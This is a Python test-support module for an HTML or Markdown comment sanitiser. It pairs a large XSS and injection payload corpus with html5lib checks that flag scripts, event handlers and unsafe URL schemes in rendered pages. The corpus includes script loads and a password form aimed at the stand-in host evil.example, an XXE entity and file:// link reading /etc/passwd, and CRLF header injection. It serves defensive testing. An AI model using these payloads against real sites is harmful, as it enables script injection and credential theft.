"""What strangers write to make a page do something: a corpus of hostile texts, and what a page may consist of.

Kinds after the OWASP filter evasion cheat sheet: elements, handlers, attributes broken out of, schemes, templates,
comments, Markdown, feeds and JSON broken out of, and characters that hide or turn text.
"""

from __future__ import annotations

import itertools
from urllib.parse import urlsplit

import html5lib

_ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</section></main></body><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<dialog open>x</dialog>",
    "<portal src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<a href=x id=content name=form_token>clobber</a>",
    "<form id=respond><input name=action></form>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<div class='summary' role=alert>x</div>",
    "<bdo dir=rtl>x</bdo>",
]
_HANDLERS = [
    f"<{tag} {handler}=alert(1)>"
    for tag, handler in itertools.product(
        ("img src=x", "body", "details open", "video", "a href=x", "svg"),
        ("onerror", "onload", "ontoggle", "onmouseover", "onpointerenter"),
    )
]
_ATTRIBUTES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    '"/><img src=x onerror=alert(1)>',
    "'}}'><img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}} {{ config }} {% print(1) %} ${7*7} #{7*7}",
    "{ $count } { -brand } {author} {count}",
    "__proto__[x]=1",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "--!><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "</entry></feed><script>alert(1)</script>",
    '"}]}</script><script>alert(1)</script>',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
]
_SCHEMES = [
    f"[clic]({scheme})"
    for scheme in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "blob:https://example.org/x",
        "//evil.example/x",
        '/x "title" onmouseover=alert(1)',
        "https://example.org/'onmouseover='alert(1)",
        'https://example.org/"onmouseover="alert(1)',
    )
]
_MARKDOWN = [
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover=alert(1)>',
    "![x](x)",
    "![x](javascript:alert(1))",
    '![x](x "x\' onerror=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](<javascript:alert(1)>)",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "# Titre\n\n## Laisser un commentaire\n\n---",
    "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
    "> " * 200 + "profond",
    "*" * 500 + "_" * 500,
    "[" * 300 + "](" * 300,
    "- " * 150 + "x",
]
_CHARACTERS = [
    "\u202eetnatnop\u202c",
    "\u2066\u2067\u2068 sans fin",
    "zéro\u200blargeur\u200d\u2060\ufeff",
    "a" * 3_000,
    "Z" + "\u0300" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "\ufffe\uffff\U0001fffe hors XML",
    "\x1b[31mrouge\x07",
]
PAYLOADS = [*_ELEMENTS, *_HANDLERS, *_ATTRIBUTES, *_SCHEMES, *_MARKDOWN, *_CHARACTERS]

CONTENT = {"p", "br", "a", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "del", "s"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}
FORBIDDEN = {"style", "srcdoc", "formaction", "background", "xlink:href", "ping", "http-equiv"}


def parsed(html):
    """The tree a browser would make of it."""
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def suspicions(html, scripts=frozenset({"/static/embed.js"})):
    """Everything in the parsed page that only a reader's text could have put there; [] is what is wanted."""
    tree = parsed(html)
    found = [
        f"<{element.tag} {name}={value!r}>"
        for element in tree.iter()
        for name, value in element.attrib.items()
        if _is_foreign(str(name), value)
    ]
    found += [
        f"<script>{script.text or script.get('src')}"
        for script in tree.iter("script")
        if script.get("src") not in scripts or script.text
    ]
    for content in tree.iter("div"):
        if "content" in (content.get("class") or "").split():
            found += [f"<{e.tag}> in a comment" for e in content.iter() if e is not content and e.tag not in CONTENT]
    return found


def shape(html):
    """The elements of a page, in order, without what readers wrote into .content."""
    names = []

    def walk(element):
        names.append(element.tag if isinstance(element.tag, str) else "comment")
        if "content" not in (element.get("class") or "").split():
            for child in element:
                walk(child)

    walk(parsed(html))
    return names


def _is_foreign(name, value):
    if name.lower().startswith("on") or name.lower() in FORBIDDEN:
        return True
    return name.lower() in ADDRESSES and urlsplit(value.strip()).scheme not in {"", "http", "https"}
